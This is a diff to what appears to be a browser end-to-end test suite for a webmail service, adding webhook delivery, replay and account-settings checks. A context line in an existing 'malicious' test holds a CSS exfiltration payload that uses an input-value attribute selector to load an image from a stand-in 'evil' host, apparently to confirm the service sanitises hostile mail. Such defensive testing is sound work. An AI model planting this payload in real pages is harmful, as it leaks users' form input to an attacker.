@@ -28,6 +28,7 @@ HARNESS = os.environ["WEB_HARNESS"]
 OPERATOR_TOKEN = os.environ["WEB_OPERATOR_TOKEN"]
 OPERATOR = os.environ["WEB_OPERATOR"]
 AGENT_KEY = os.environ["WEB_AGENT_KEY"]
+HOOK_URL = os.environ["WEB_HOOK_URL"]
 SHOTS = os.environ["WEB_SHOTS"]
 CHROMIUM = os.environ.get("WEB_CHROMIUM", "/usr/bin/chromium")
 
@@ -437,6 +438,15 @@ input[value^="a"] {{ background-image: url({evil}/exfil-a); }}</style>
     watch.check()
 
 
+def account_settings(page, watch):
+    """An account key has a webhook of its own, and no agent credits."""
+    nav(page, "Agent settings")
+    expect(page.get_by_role("form", name="Webhook")).to_be_visible()
+    expect(page.get_by_role("heading", name="Credits and sending")).to_have_count(0)
+    shot(page, "account-settings")
+    watch.check()
+
+
 def operator_pauses(page, watch):
     nav(page, "Agent settings")
     expect(page.locator("[data-sending]")).to_have_attribute("data-sending", "on")
@@ -469,8 +479,7 @@ def agent(browser):
     watch.expect_refusal(400)
     hook.get_by_role("button", name="Register webhook").click()
     expect(hook.get_by_role("alert")).to_contain_text("https")
-    harness("/dns-a", body={"name": "hooks.example.com", "ip": "93.184.215.14"})
-    hook.get_by_label("HTTPS URL").fill("https://hooks.example.com/mail")
+    hook.get_by_label("HTTPS URL").fill(HOOK_URL)
     hook.get_by_label("outbound.bounced").check()
     hook.get_by_role("button", name="Register webhook").click()
     secret = page.locator(".copy-row code.secret")
@@ -480,6 +489,24 @@ def agent(browser):
     expect(secret).not_to_have_text(first)
     expect(page.get_by_role("form", name="Webhook").get_by_label("outbound.bounced")).to_be_checked()
     expect(page.get_by_text("No deliveries yet.")).to_be_visible()
+    # A message to the service's inbox: the webhook fires, the log shows it, a replay sends it again.
+    harness("/receiver", body={"secret": secret.inner_text()})
+    harness("/deliver", raw=(
+        "Delivered-To: inbox@svc.test\r\nFrom: Pat <pat@partner.example>\r\nTo: inbox@svc.test\r\n"
+        "Subject: For the agent\r\nMessage-ID: <agent@partner.example>\r\n\r\nHello agent\r\n"
+    ))
+    row = page.locator("tr[data-event]").first
+    for _ in range(20):
+        nav(page, "Mail")
+        nav(page, "Agent settings")
+        if row.count():
+            break
+        page.wait_for_timeout(500)
+    expect(row).to_contain_text("HTTP 200")
+    row.get_by_role("button", name="Replay").click()
+    expect(row.get_by_role("button", name="Replay")).to_be_enabled()
+    got = json.loads(harness("/receiver"))
+    assert len(got) == 2, got
     shot(page, "agent-webhook")
     nav(page, "Mail")
     shot(page, "agent-mail")
@@ -560,6 +587,7 @@ def main():
         mailboxes(page, watch)
         webmail(page, watch)
         malicious(page, watch)
+        account_settings(page, watch)
         operator_pauses(op_page, op_watch)
         drafts(op_page, op_watch)
         agent(browser)
